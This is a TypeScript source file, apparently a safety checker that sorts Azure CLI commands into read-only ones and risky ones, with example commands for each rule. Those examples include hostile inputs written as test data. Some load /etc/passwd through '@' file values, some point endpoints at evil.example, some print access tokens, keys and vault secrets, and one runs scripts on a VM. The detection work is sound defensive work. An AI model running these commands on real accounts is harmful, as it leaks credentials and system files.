/**
 * Tier 2: the Azure CLI.
 *
 * 1. The command is the words before the first option, walked down the command tree; the verb is where the
 *    tree ends. A word after the verb is not an argument of any reading command.
 * 2. In a group the tree does not know, the last word decides only if no earlier word acts.
 * 3. Options must be declared; values that load files (`@…`), name URLs or leave their shape are refused.
 */
import { unexpandedWord } from '../options.ts';
import type { Program } from '../programs/program.ts';
import { at, over, type Rule, risky, safe, type Verdict, type Word } from '../rule.ts';
import { OPTION_NAMES } from './option-names.ts';
import { commandTree, ROOT_COMMANDS } from './tree.ts';
import { acts, type VerbKind, verbKind } from './verbs.ts';

const read = safe(
  'az.read',
  2,
  'The command only reads.',
  [
    'az vm list -g rg --query "[?a && b].name" -o tsv',
    'az network nsg rule list --nsg-name n -g rg',
    'az network watcher test-ip-flow --vm v -g rg --direction Inbound --protocol TCP --local 10.0.0.4:22 --remote 1.2.3.4:60000',
    'az storage container exists --account-name sa --name c --auth-mode login',
    'az network firewall list -g rg',
    'az group list --tag update=true',
  ],
  ['az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts id list'],
);
const help = safe(
  'az.help',
  2,
  'Only help or the version is printed.',
  ['az --version', 'az vm delete --help', 'az network', 'az version'],
  ['az vm delete -n x --help'],
);
const change = risky(
  'az.change',
  2,
  'This command is not one of those known to only read: it may create, change, start or delete.',
  [
    'az vm delete -g rg -n vm --yes',
    'az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts id list',
    'az keyvault set-policy -n kv --secret-permissions get list',
    'az vm DELETE -g rg -n vm',
    'az nosuch thing delete list',
    'az storage blob download -c c -n b -f /tmp/x',
    'az login',
  ],
  ['az vm list'],
);
const secret = risky(
  'az.secret',
  2,
  'This prints keys, tokens, passwords or connection strings.',
  [
    'az account get-access-token',
    'az keyvault secret show --vault-name kv -n x',
    'az storage account keys list -n sa',
    'az redis list-keys -n r -g rg',
    'az webapp config connection-string list -n a -g rg',
  ],
  ['az keyvault list', 'az storage account show -n sa'],
);
const rest = risky('az.rest', 2, 'az rest sends any request to any service.', [
  'az rest --uri https://graph.microsoft.com/v1.0/me',
  'az rest --method get --url x',
]);
const runCommand = risky(
  'az.run-command',
  2,
  'Run-command executes or shows scripts of a virtual machine.',
  ['az vm run-command list -g rg --vm-name vm', 'az vm run-command show -g rg --vm-name vm -n x'],
  [
    'az vm run-command list -l westeurope',
    'az vm run-command show -l westeurope --command-id RunShellScript',
  ],
);
const fileArgument = risky(
  'az.file-argument',
  2,
  'A value beginning with @ is replaced by the content of that file.',
  [
    'az group list --tag @/etc/passwd',
    'az group list --tag=@/etc/passwd',
    'az group exists -n @/etc/hostname',
    'az group list --tag a=@/etc/passwd',
  ],
);
const badOption = risky(
  'az.option',
  2,
  'This option is not on the list of those that only select or format; it may write a file, take a secret, or reach elsewhere.',
  [
    'az vm list --output-file x',
    'az storage blob list --account-key k -c c',
    'az containerapp show -n a -g rg --show-secrets',
    'az vm list --debug',
    'az storage blob list --blob-endpoint https://evil.example -c c',
  ],
  ['az vm list --output json'],
);
const badValue = risky(
  'az.value',
  2,
  'A value has the form of an address or a path where a name is expected.',
  [
    "az keyvault certificate list --vault-name 'evil.example/?'",
    'az keyvault certificate list-versions --id https://evil.example/x',
  ],
  ['az storage account show --ids /subscriptions/0/resourceGroups/rg/providers/x/y'],
);
const nothing = risky('az.nothing', 2, 'az without a command opens its own screen or a survey.', [
  'az',
  'az --query x',
]);

const OPTIONS: ReadonlySet<string> = new Set(
  OPTION_NAMES.split(/\s+/)
    .filter((name) => name !== '')
    .map((name) => `--${name}`),
);
/** Single letters that select or format on every reading command. */
const LETTERS = new Set('abcdeghijklmnoqrstvwz');
/** Names that become part of a host name. */
const HOST_PART = new Set([
  '--account-name',
  '--vault-name',
  '--hsm-name',
  '--store-name',
  '--search-service-name',
  '--registry',
  '--workspace-name',
]);
const WORD = /^[a-z0-9][a-z0-9_-]*$/;

const tree = commandTree();

/** What a command does, by its words: at least one, all plain. */
function commandKind(words: readonly string[]): VerbKind | 'help' {
  const first = words[0]!;
  if (ROOT_COMMANDS.has(first)) return words.length === 1 ? verbKind(words, first) : 'change';
  let group = tree.group(first);
  let depth = 1;
  while (group !== undefined && depth < words.length) {
    const word = words[depth]!;
    const last = depth === words.length - 1;
    const kind = group.commands.get(word);
    const next = group.groups.get(word);
    // The verb; whatever follows it belongs to no reading command.
    if (kind !== undefined && (last || next === undefined)) return last ? kind : 'change';
    if (next === undefined) break;
    group = next;
    depth += 1;
  }
  // A group alone prints its help.
  if (depth === words.length && group !== undefined) return 'help';
  // Not in the tree: an extension, or a command of another version. No word before the verb may act.
  const known = group === undefined ? 0 : depth;
  for (let i = known; i < words.length - 1; i += 1) if (acts(words[i]!)) return 'change';
  return words.length < 2 ? 'change' : verbKind(words, words.join(' '));
}

function valueObjection(option: string, value: string): Rule | null {
  if (value.includes('@')) {
    if (value.startsWith('@') || value.includes('=@')) return fileArgument;
    if (option !== '--query' && /[:{[,]@/.test(value)) return fileArgument;
  }
  if (option === '--query') return null;
  if (value.includes('://')) return badValue;
  return HOST_PART.has(option) && !/^[A-Za-z0-9_.-]+$/.test(value) ? badValue : null;
}

function letterAllowed(letter: string, words: readonly string[]): boolean {
  if (LETTERS.has(letter)) return true;
  if (letter === 'p') return words[0] !== 'acr';
  return letter === 'f' && words[0] === 'storage' && words[1] === 'fs';
}

/** Options and their values, from the first option on. */
function argumentVerdict(all: readonly Word[], from: number, words: readonly string[]): Verdict | null {
  let option = '';
  for (let i = from; i < all.length; i += 1) {
    const word = all[i]!;
    let value = word.value;
    // An index or filter of a query is often left unquoted; no file is named like one.
    if (word.glob && !(option === '--query' && /^[\w.]*\[/.test(value))) return at(unexpandedWord, word);
    if (value.length > 1 && value.startsWith('-')) {
      let attached: string | null = null;
      if (value.startsWith('--')) {
        const equals = value.indexOf('=');
        option = equals === -1 ? value : value.slice(0, equals);
        if (equals !== -1) attached = value.slice(equals + 1);
        if (!OPTIONS.has(option)) return at(badOption, word);
      } else {
        option = value.slice(0, 2);
        if (!letterAllowed(value.charAt(1), words)) return at(badOption, word);
        if (value.length > 2) attached = value.charAt(2) === '=' ? value.slice(3) : value.slice(2);
      }
      if (attached === null) continue;
      value = attached;
    }
    const objection = valueObjection(option, value);
    if (objection !== null) return at(objection, word);
  }
  return null;
}

function isHelp(words: readonly Word[], from: number): boolean {
  const only = words[from]?.value;
  return words.length === from + 1 && (only === '--help' || only === '-h');
}

function judge(all: readonly Word[]): Verdict {
  let end = 1;
  while (end < all.length && !all[end]!.value.startsWith('-')) end += 1;
  if (end === 1) {
    const only = all[1]?.value;
    const version = all.length === 2 && (only === '--version' || only === '-v');
    return over(version || isHelp(all, 1) ? help : nothing, all);
  }
  const words: string[] = [];
  for (let i = 1; i < end; i += 1) {
    const word = all[i]!;
    if (word.value.startsWith('@')) return at(fileArgument, word);
    if (word.glob || !WORD.test(word.value)) return at(change, word);
    words.push(word.value);
  }
  if (isHelp(all, end)) return over(help, all);
  if (words[0] === 'rest') return at(rest, all[1]!);
  const kind = commandKind(words);
  const command = { start: all[1]!.start, end: all[end - 1]!.end };
  if (kind === 'change') return { rule: change, ...command };
  if (kind === 'secret') return { rule: secret, ...command };
  const argument = argumentVerdict(all, end, words);
  if (argument !== null) return argument;
  if (kind === 'help' || words[0] === 'version') return over(help, all);
  // The catalogue of built-in scripts is public; what was run on a machine is not.
  if (words[0] === 'vm' && words[1] === 'run-command' && !ofLocation(all, end))
    return { rule: runCommand, ...command };
  return over(read, all);
}

function ofLocation(all: readonly Word[], from: number): boolean {
  let located = false;
  for (let i = from; i < all.length; i += 1) {
    const value = all[i]!.value;
    if (/^(?:-g|--resource-group|--vm-name|--ids?|--name|-n|--run-command-name)/.test(value)) return false;
    if (value === '-l' || value === '--location') located = true;
  }
  return located;
}

const az: Program = {
  names: ['az'],
  folders: ['/opt/az/bin', '/usr/local/bin', '/opt/homebrew/bin'],
  safe: read,
  rules: [help, change, secret, rest, runCommand, fileArgument, badOption, badValue, nothing],
  judge,
};

export const AZURE: readonly Program[] = [az];
